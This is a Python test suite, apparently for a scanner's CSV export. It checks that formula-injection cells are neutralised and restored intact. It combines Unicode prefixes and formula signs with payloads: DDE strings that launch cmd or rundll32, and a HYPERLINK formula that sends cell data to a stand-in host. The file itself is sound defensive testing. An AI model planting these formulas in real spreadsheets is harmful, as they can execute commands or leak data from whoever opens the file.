"""Cells that a spreadsheet would run: made harmless, and back to what they were."""

from __future__ import annotations

import csv
import io
import itertools
import unicodedata

from hypothesis import example, given
from hypothesis import strategies as st

from scanner.report._formula import harmless, live, original
from scanner.report._table import line

SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫", "−"]
BEFORE = [
    *("", " ", "  ", "\t", "\r", "\n", "\r\n", "\u3000", "\u00a0", "\u200b", "\ufeff", "\u2003"),
    *(" \t", "\u200e", "\u202e", "\x00", "\x1f", "\u00ad", "'", "''"),
]
BODIES = [
    *("1+1", "SUM(A1:A9)", 'HYPERLINK("http://x.example/?q="&A1,"客户")', "cmd|' /C calc'!A0"),
    *("IMPORTXML(1)", "2+5+cmd|'/c calc'!A", "A1", "(1)", "\t1", "=", "DDE(1)", "客户", '"a"'),
    *("0", "rundll32|'x'!a", "@x", "-1", "x,y", "x;y", " 1", "WEBSERVICE(A1)"),
]
PAYLOADS = ["".join(parts) for parts in itertools.product(BEFORE, SIGNS, BODIES)]


def would_run(cell: str) -> bool:
    """A spreadsheet's view, told independently: what is left after what it skips."""
    rest = unicodedata.normalize("NFKC", cell)
    rest = "".join(c for c in rest if unicodedata.category(c) not in ("Cc", "Cf") and c != " ")
    return rest.strip()[:1] in ("=", "+", "-", "@", "−")


def read(text: str) -> list[str]:
    return next(csv.reader(io.StringIO(text, newline=""), strict=True))


def test_no_payload_is_live_and_each_comes_back() -> None:
    assert len(PAYLOADS) >= 5_000
    for payload in PAYLOADS:
        (cell,) = read(line([payload]))
        assert cell.startswith("'"), repr(payload)
        assert not would_run(cell), repr(payload)
        assert original(cell) == payload


def test_what_is_no_formula_is_left_as_it_is() -> None:
    for cell in ("", "a", "客户", "138****78", "/share/a", "*", "#1", "(1)", '"x"', "·", "欧***"):
        assert not live(cell)
        assert harmless(cell) == cell


@given(st.lists(st.text(), min_size=1))
@example(["a\x7fb", "c"])
@example(["\x7f=1+1"])
@example(["a", 'b"', "=1"])
def test_every_row_comes_back(cells: list[str]) -> None:
    written = line(cells)
    assert written.endswith("\r\n")
    assert [original(cell) for cell in read(written)] == cells


@given(st.text())
def test_nothing_live_is_written(text: str) -> None:
    assert not would_run(harmless(text))
